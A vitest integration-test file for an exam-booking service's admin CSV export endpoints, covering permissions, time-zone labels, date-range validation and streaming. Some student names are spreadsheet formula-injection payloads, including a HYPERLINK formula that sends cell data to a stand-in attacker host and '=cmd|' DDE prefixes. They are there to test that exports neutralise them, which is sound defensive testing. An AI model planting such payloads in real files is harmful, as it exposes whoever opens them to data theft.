import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { insertBookingRow, insertContact, insertExam } from './helpers/factories';
import { startOidcIssuer } from './helpers/oidcIssuer';
import { useTestService } from './helpers/service';

const idp = await startOidcIssuer();
afterAll(() => idp.close());
const s = useTestService({ ...idp.env, LOGIN_RATE_LIMIT_PER_IP: '100000' });
const { db } = s;

/** What a browser's download does: a GET with the admin's bearer token. */
async function download(path: string, token?: string) {
  const res = await fetch(`${s.url}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  return { res, body: await res.text() };
}
const records = (csv: string): string[][] => parse(csv, { bom: true });

/** A session at a wall-clock time in Toronto (the offset says which: -05:00 EST, -04:00 EDT). */
async function sessionAt(date: string, start: string, end: string, capacity = 20) {
  const examId = await insertExam(db, { capacity });
  await db.query('update hubspot_mock_exams set exam_date = $2, start_time = $3, end_time = $4 where hubspot_id = $1', [
    examId,
    date,
    start,
    end,
  ]);
  return examId;
}
async function bookAs(examId: string, name: string, status: 'Active' | 'Completed' | 'Cancelled' = 'Active') {
  const contact = await insertContact(db);
  const id = await insertBookingRow(db, contact.contactId, examId, { status });
  await db.query('update hubspot_bookings set name = $2, student_email = $3, student_id = $4 where id = $1', [
    id,
    name,
    contact.email,
    contact.studentId,
  ]);
  return id;
}

describe('GET /api/admin/exports/roster/:examId.csv', () => {
  it('downloads the roster from the database, formulas neutralised, times labelled EDT in summer', async () => {
    const examId = await sessionAt('2031-07-15', '2031-07-15T09:00:00-04:00', '2031-07-15T12:00:00-04:00');
    await bookAs(examId, '=HYPERLINK("http://evil.example/?x="&A1,"click")');
    await bookAs(examId, '+1 Plus');
    await bookAs(examId, '@SUM(A1)');
    await bookAs(examId, '-2 Minus');
    await bookAs(examId, 'Ada Plain', 'Completed');
    await bookAs(examId, 'Gone Cancelled', 'Cancelled');
    const { res, body } = await download(`/api/admin/exports/roster/${examId}.csv`, await idp.token('admin'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="roster-${examId}-2031-07-15.csv"`);
    const [header, ...rows] = records(body);
    expect(header).toContain('Start Time');
    const cell = (row: string[], column: string) => row[header!.indexOf(column)];
    expect(rows.map((r) => cell(r, 'Name')).sort()).toEqual(
      ["'+1 Plus", "'-2 Minus", '\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'@SUM(A1)", 'Ada Plain'].sort(),
    );
    expect(rows.every((r) => cell(r, 'Start Time') === '09:00 EDT' && cell(r, 'End Time') === '12:00 EDT')).toBe(true);
    expect(rows.map((r) => cell(r, 'Booking Status')).sort()).toEqual([
      'Active',
      'Active',
      'Active',
      'Active',
      'Completed',
    ]);
    // No cell of the file starts with a formula character.
    expect(rows.flat().filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });

  it('refuses without the permission, with a student token, for an unknown session, as JSON with the app code', async () => {
    const examId = await sessionAt('2031-07-16', '2031-07-16T09:00:00-04:00', '2031-07-16T10:00:00-04:00');
    const path = `/api/admin/exports/roster/${examId}.csv`;
    const appCode = async (p: string, token?: string) => {
      const { res, body } = await download(p, token);
      return [res.status, (JSON.parse(body) as { error: { appCode: string } }).error.appCode];
    };
    expect(await appCode(path)).toEqual([401, 'UNAUTHENTICATED']);
    expect(await appCode(path, await idp.token('coordinator'))).toEqual([403, 'FORBIDDEN']);
    expect(await appCode(path, await idp.token('viewer'))).toEqual([403, 'FORBIDDEN']);
    expect(await appCode(path, await idp.unsignedToken())).toEqual([401, 'UNAUTHENTICATED']);
    const contact = await insertContact(db);
    const login = await s.client.auth.login.mutate({ studentId: contact.studentId, email: contact.email });
    expect(await appCode(path, login.token)).toEqual([401, 'UNAUTHENTICATED']);
    expect(await appCode('/api/admin/exports/roster/no-such-exam.csv', await idp.token('admin'))).toEqual([
      404,
      'EXAM_NOT_FOUND',
    ]);
    expect((await download(path, await idp.token('super_admin'))).res.status).toBe(200);
  });
});

describe('GET /api/admin/exports/bookings.csv?from=&to=', () => {
  it('every booking of sessions in the range, any status, EST in winter and EDT in summer, by date', async () => {
    const winter = await sessionAt('2032-01-10', '2032-01-10T08:30:00-05:00', '2032-01-10T11:30:00-05:00');
    const summer = await sessionAt('2032-06-10', '2032-06-10T08:30:00-04:00', '2032-06-10T11:30:00-04:00');
    const outside = await sessionAt('2032-07-01', '2032-07-01T08:30:00-04:00', '2032-07-01T11:30:00-04:00');
    const w = await bookAs(winter, 'Winter Student', 'Cancelled');
    const su = await bookAs(summer, 'Summer Student');
    await bookAs(outside, 'Outside Student');
    const { res, body } = await download(
      '/api/admin/exports/bookings.csv?from=2032-01-01&to=2032-06-30',
      await idp.token('admin'),
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="bookings-2032-01-01-2032-06-30.csv"');
    const [header, ...rows] = records(body);
    const col = (name: string) => header!.indexOf(name);
    expect(rows.map((r) => [r[col('Booking ID')], r[col('Booking Status')], r[col('Start Time')]])).toEqual([
      [w, 'Cancelled', '08:30 EST'],
      [su, 'Active', '08:30 EDT'],
    ]);
  });

  it('bad ranges are field errors', async () => {
    const token = await idp.token('admin');
    for (const query of ['', '?from=2032-01-01', '?from=2032-02-30&to=2032-03-01', '?from=2032-03-01&to=2032-01-01']) {
      const { res, body } = await download(`/api/admin/exports/bookings.csv${query}`, token);
      expect(res.status, query).toBe(400);
      expect(JSON.parse(body).error, query).toMatchObject({ appCode: 'VALIDATION_FAILED' });
      expect(Object.keys(JSON.parse(body).error.fieldErrors ?? {}).length, query).toBeGreaterThan(0);
    }
  });

  it('10,000 bookings stream out page by page, each exactly once, in order', async () => {
    // 100 sessions of 100 bookings in 2033, nothing else of any test dated there.
    await db.query(
      `insert into hubspot_mock_exams (hubspot_id, mock_type, exam_date, start_time, end_time, location, capacity, is_active)
       select 'bulk-' || d, 'Clinical Skills', date '2033-01-01' + d, timestamptz '2033-01-01 14:00Z' + d * interval '1 day',
              timestamptz '2033-01-01 17:00Z' + d * interval '1 day', 'Toronto', 100, 'true'
       from generate_series(0, 99) d`,
    );
    await db.query(
      `insert into hubspot_bookings (associated_contact_id, associated_mock_exam, exam_date, start_time, end_time, mock_type, token_used, is_active, name)
       select 'bulk-contact-' || n, e.hubspot_id, e.exam_date, e.start_time, e.end_time, e.mock_type, 'Clinical Skills Token', 'Active', '=cmd|' || n
       from hubspot_mock_exams e, generate_series(1, 100) n where e.hubspot_id like 'bulk-%'`,
    );
    const { res, body } = await download(
      '/api/admin/exports/bookings.csv?from=2033-01-01&to=2033-12-31',
      await idp.token('admin'),
    );
    expect(res.status).toBe(200);
    // Streamed: no length known in advance.
    expect(res.headers.get('content-length')).toBeNull();
    const [header, ...rows] = records(body);
    expect(rows).toHaveLength(10_000);
    const ids = rows.map((r) => r[header!.indexOf('Booking ID')]);
    expect(new Set(ids).size).toBe(10_000);
    const expected = await db.query(
      `select id from hubspot_bookings where exam_date between '2033-01-01' and '2033-12-31' order by exam_date, start_time, id`,
    );
    expect(ids).toEqual(expected.rows.map((r) => r.id));
    expect(rows.every((r) => r[header!.indexOf('Name')]!.startsWith("'=cmd|"))).toBe(true);
  });
});
